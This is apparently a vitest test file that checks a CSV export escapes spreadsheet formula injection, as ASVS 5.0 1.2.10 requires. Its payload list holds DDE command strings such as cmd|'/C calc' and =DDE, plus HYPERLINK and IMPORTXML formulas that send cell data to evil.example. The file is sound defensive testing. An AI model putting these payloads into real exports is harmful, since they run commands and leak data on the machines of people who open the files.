import { expect, it } from "vitest";
import { CSV_COLUMNS, toCsv } from "./csv.ts";

/** What a spreadsheet computes, calls or imports; and what may stand before it so that it is not seen to begin with a sign. */
const FORMULAS = [
  "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.example?x="&A1,"click")', '=IMPORTXML("https://evil.example","//a")', "=WEBSERVICE(A1)",
  "+1+1", "+cmd|'/C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "=DDE(\"cmd\";\"/C calc\")", "=\u200b1", "＝1+1", "＋1", "－1", "＠A1",
  "=1;=2", "=A1,=B1", "=\"a\"\n=1",
]; // prettier-ignore
const BEFORE = ["", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\ufeff", '"', "'"];
const PAYLOADS = BEFORE.flatMap((before) => FORMULAS.map((formula) => before + formula));
/** A text, an identity and the evidence itself: columns that are filled by different rules. */
const POSITIONS = ["type", "userEmail", "contextText"] as const;

const EVENT = {
  id: "a", createdAt: null, type: "X", description: null, accountId: null, userEmail: null, userId: null, source: null, sourceDescription: null, sourceIp: null,
  sourceCountry: null, contextText: null, raw: "{}",
}; // prettier-ignore

/** Cells as a spreadsheet cuts them. */
const cellsOf = (csv: string): string[] =>
  [...csv.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r\n)/g)].map(([, cell = ""]) =>
    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
  );

it("200 formulas × 3 positions: none is one to a spreadsheet, and each comes back whole behind its quote", () => {
  expect([PAYLOADS.length, POSITIONS.length]).toEqual([200, 3]);
  for (const payload of PAYLOADS)
    for (const position of POSITIONS) {
      const cells = cellsOf(toCsv([{ ...EVENT, [position]: payload }]));
      expect(cells).toHaveLength(2 * CSV_COLUMNS.length);
      const own = cells.slice(CSV_COLUMNS.length);
      // ASVS 5.0, 1.2.10: a quote in front of what begins like a formula.
      for (const cell of own) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
      expect(own).toContain(`'${payload}`);
    }
});
